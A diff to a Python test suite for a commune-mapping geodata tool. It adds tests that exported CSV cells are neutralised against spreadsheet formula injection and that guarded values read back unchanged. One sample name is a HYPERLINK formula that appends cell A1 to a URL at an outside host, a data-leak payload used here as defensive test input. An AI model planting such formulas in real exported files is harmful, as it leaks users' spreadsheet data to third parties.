@@ -7,12 +7,14 @@ import json
 from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
 
 from coverage.boundary_commands import read_assignments
 from coverage.cli import main
 from coverage.workspace import Workspace
 from geodata.errors import PhuDienError
+from loaders.reports.csv_file import csv_of
 from tests.geodata.four_communes import CODES, drawn, gadm, geoboundaries
 
 
@@ -108,3 +110,28 @@ def test_table_of_assignments_must_be_one(content: bytes) -> None:
 def test_assignments_are_read_with_what_they_mean() -> None:
     text = "﻿feature,commune_code,label\nA,30469,x\nB,-,x\nC,,x\nD,AUTO,x\n"
     assert read_assignments(text.encode(), "map.csv") == {"A": "30469", "B": "", "D": "auto"}
+
+
+def test_texts_of_a_file_are_no_formulas_in_the_table_and_come_back_as_they_were(
+    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    names = ["Cái Dầu", '=HYPERLINK("http://x.vn/?"&A1,"Mỹ Đức")', "'+84", "-"]
+    file, table = write(tmp_path / "xa.geojson", drawn(ten=names)), tmp_path / "out.csv"
+    call(home, "check", str(file), "--as-of", "2021-07-01", "--json", "--unmatched", str(table))
+    with table.open(encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    assert not [cell for row in rows for cell in row.values() if cell.lstrip()[:1] in tuple("=+-@")]
+    filled = [{**row, "commune_code": code} for row, code in zip(rows, CODES[1:], strict=True)]
+    with table.open("w", encoding="utf-8-sig", newline="") as stream:
+        writer = csv.DictWriter(stream, rows[0].keys())
+        writer.writeheader()
+        writer.writerows(filled)
+    capsys.readouterr()
+    assert call(home, "add", str(file), "--as-of", "2021-07-01", "--json", "--map", str(table)) == 0
+    assert answer(capsys)["recognised"]["hand"] == 3
+
+
+@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "-", "'", "''", "An", "\t=1", "'An", ""])
+def test_guard_of_a_text_is_taken_off_to_the_letter(text: str) -> None:
+    line = csv_of(pd.DataFrame({"feature": [text], "commune_code": ["30469"]}))
+    assert read_assignments(line, "map.csv") == {text: "30469"}
